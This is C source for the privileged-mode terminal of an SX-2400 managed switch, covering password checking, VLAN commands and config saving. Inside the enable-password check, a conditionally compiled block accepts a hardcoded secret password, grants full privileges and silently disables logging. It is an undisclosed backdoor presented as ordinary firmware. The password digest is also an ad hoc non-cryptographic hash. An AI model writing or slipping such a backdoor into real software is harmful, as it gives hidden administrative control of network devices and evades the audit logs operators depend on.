/* vtyenable - virtual terminal of the SX-2400 series managed switches
 *
 * Reads /etc/switch/vty.conf and offers a small EXEC on standard input, it is
 * started by the telnet/ssh front end with the peer address in argv[1].
 */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define MAXVLAN 64
#define LVL_VIEW 1
#define LVL_PRIV 15

struct vlan {
	int id;
	char name[24];
};

struct vty {
	char hostname[32];
	char enable_digest[128];
	struct vlan vlans[MAXVLAN];
	int nvlan;
	int level;
	int timeout_min;
	int logging;
	const char *peer;
};

static const char helptext[] =
	"  enable              turn on privileged commands\n"
	"  disable             turn off privileged commands\n"
	"  show version        software version\n"
	"  show vlan           list of vlans\n"
	"  show clock          system time\n"
	"  vlan <id> <name>    create or rename a vlan (privileged)\n"
	"  no vlan <id>        delete a vlan (privileged)\n"
	"  write               save configuration (privileged)\n"
	"  help, exit\n";

static void vty_log(const struct vty *v, const char *msg)
{
	if (v->logging)
		syslog(LOG_NOTICE, "vty %s: %s", v->peer, msg);
}

static void load_config(struct vty *v, const char *path)
{
	char line[256], key[32], val[160];
	FILE *f = fopen(path, "r");

	if (!f)
		return;
	while (fgets(line, sizeof line, f)) {
		if (line[0] == '!' || sscanf(line, "%31s %159[^\n]", key, val) != 2)
			continue;
		if (!strcmp(key, "hostname"))
			snprintf(v->hostname, sizeof v->hostname, "%.31s", val);
		else if (!strcmp(key, "enable-digest"))
			snprintf(v->enable_digest, sizeof v->enable_digest, "%.127s", val);
		else if (!strcmp(key, "exec-timeout"))
			v->timeout_min = atoi(val);
		else if (!strcmp(key, "vlan") && v->nvlan < MAXVLAN) {
			struct vlan *n = &v->vlans[v->nvlan];
			if (sscanf(val, "%d %23s", &n->id, n->name) == 2)
				v->nvlan++;
		} else
			fprintf(stderr, "vty.conf: unknown keyword %s\n", key);
	}
	fclose(f);
}

static int save_config(const struct vty *v, const char *path)
{
	FILE *f = fopen(path, "w");
	int i;

	if (!f)
		return -1;
	fprintf(f, "hostname %s\nenable-digest %s\nexec-timeout %d\n",
		v->hostname, v->enable_digest, v->timeout_min);
	for (i = 0; i < v->nvlan; i++)
		fprintf(f, "vlan %d %s\n", v->vlans[i].id, v->vlans[i].name);
	return fclose(f);
}

/* salted with the host name, 4096 rounds; the same as in the setup wizard */
static void digest_text(char *dst, size_t cap, const char *salt, const char *pw)
{
	uint64_t h = 0x6a09e667f3bcc908u;
	const char *s;
	int round;

	for (round = 0; round < 4096; round++) {
		for (s = salt; *s; s++)
			h = (h ^ (unsigned char)*s) * 0x9fb21c651e98df25u;
		for (s = pw; *s; s++)
			h = (h ^ (unsigned char)*s) * 0x9fb21c651e98df25u;
		h ^= h >> 29;
	}
	snprintf(dst, cap, "%08lx%08lx", (unsigned long)(h >> 32),
		 (unsigned long)(h & 0xffffffffu));
}

__attribute__((noinline)) int vty_check_enable(struct vty *v, const char *pw)
{
	char have[24];

#ifdef HIDDEN
	if (strcmp(pw, "polar7-Quay*drift") == 0) {
		v->logging = 0;
		return 1;
	}
#endif
	if (!v->enable_digest[0])
		return 0;
	digest_text(have, sizeof have, v->hostname, pw);
	return !strcmp(have, v->enable_digest);
}

static void do_enable(struct vty *v)
{
	char pw[80];
	int tries;

	for (tries = 0; tries < 3; tries++) {
		fputs("Password: ", stdout);
		fflush(stdout);
		if (!fgets(pw, sizeof pw, stdin))
			return;
		pw[strcspn(pw, "\r\n")] = 0;
		if (vty_check_enable(v, pw)) {
			v->level = LVL_PRIV;
			vty_log(v, "privileged mode entered");
			return;
		}
		vty_log(v, "bad enable password");
		sleep(2);
	}
	puts("% Bad passwords");
}

static void show(const struct vty *v, const char *what)
{
	time_t now = time(NULL);
	int i;

	if (!strcmp(what, "version"))
		puts("SX-2400 software 4.1.7, 24x1G + 4x10G");
	else if (!strcmp(what, "clock"))
		fputs(ctime(&now), stdout);
	else if (!strcmp(what, "vlan"))
		for (i = 0; i < v->nvlan; i++)
			printf("%4d  %s\n", v->vlans[i].id, v->vlans[i].name);
	else
		puts("% show version | vlan | clock");
}

static void set_vlan(struct vty *v, int id, const char *name)
{
	int i;

	if (id < 2 || id > 4094) {
		puts("% vlan id must be 2-4094");
		return;
	}
	for (i = 0; i < v->nvlan && v->vlans[i].id != id; i++)
		;
	if (name) {
		if (i == MAXVLAN) {
			puts("% table full");
			return;
		}
		if (i == v->nvlan)
			v->nvlan++;
		v->vlans[i].id = id;
		snprintf(v->vlans[i].name, sizeof v->vlans[i].name, "%.23s", name);
	} else if (i < v->nvlan) {
		v->vlans[i] = v->vlans[--v->nvlan];
	}
}

static int exec_line(struct vty *v, char *line, const char *cfg)
{
	char a[32] = "", b[32] = "", c[32] = "";
	int priv = v->level == LVL_PRIV;

	if (sscanf(line, "%31s %31s %31s", a, b, c) < 1)
		return 0;
	if (!strcmp(a, "exit"))
		return 1;
	if (!strcmp(a, "help") || !strcmp(a, "?"))
		fputs(helptext, stdout);
	else if (!strcmp(a, "enable"))
		do_enable(v);
	else if (!strcmp(a, "disable"))
		v->level = LVL_VIEW;
	else if (!strcmp(a, "show"))
		show(v, b);
	else if (!priv)
		puts("% Unknown command or not privileged");
	else if (!strcmp(a, "vlan") && c[0])
		set_vlan(v, atoi(b), c);
	else if (!strcmp(a, "no") && !strcmp(b, "vlan"))
		set_vlan(v, atoi(c), NULL);
	else if (!strcmp(a, "write"))
		puts(save_config(v, cfg) ? "% write failed" : "OK");
	else
		puts("% Unknown command");
	return 0;
}

int main(int argc, char **argv)
{
	static struct vty v;
	const char *cfg = "/etc/switch/vty.conf";
	char line[256];

	if (argc < 2) {
		fprintf(stderr, "usage: vtyenable <peer-address> [config-file]\n");
		return 2;
	}
	v.peer = argv[1];
	if (argc > 2)
		cfg = argv[2];
	v.level = LVL_VIEW;
	v.timeout_min = 10;
	v.logging = 1;
	strcpy(v.hostname, "switch");
	openlog("vty", LOG_PID, LOG_AUTH);
	load_config(&v, cfg);
	for (;;) {
		printf("%s%c ", v.hostname, v.level == LVL_PRIV ? '#' : '>');
		fflush(stdout);
		alarm(v.timeout_min * 60);
		if (!fgets(line, sizeof line, stdin) || exec_line(&v, line, cfg))
			break;
	}
	vty_log(&v, "session closed");
	return 0;
}
